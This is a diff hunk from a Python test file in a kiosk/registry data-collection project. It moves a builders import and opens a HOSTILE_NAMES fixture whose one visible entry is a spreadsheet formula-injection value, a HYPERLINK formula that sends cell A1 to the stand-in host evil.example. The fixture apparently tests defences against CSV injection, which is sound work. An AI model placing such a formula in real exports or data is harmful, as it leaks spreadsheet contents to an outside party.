@@ -21,11 +21,11 @@ from collector.db.engine import session_factory
 from collector.ingest.store import Incoming, Store
 from collector.registry.espaces import add_kiosk
 from collector.registry.espaces_import import import_espaces
+from devtools.builders import admin_token, bearer, migrated_engine, wire_batch
 from protocol.codec import encode
 from protocol.topics import TopicKind, kiosk_topic
 from tests.provisioning.conftest import invoke
 from tests.registry.test_espaces_import import anct_csv, row
-from tests.utils.builders import admin_token, bearer, migrated_engine, wire_batch
 
 HOSTILE_NAMES = {
     "fs-eq": '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
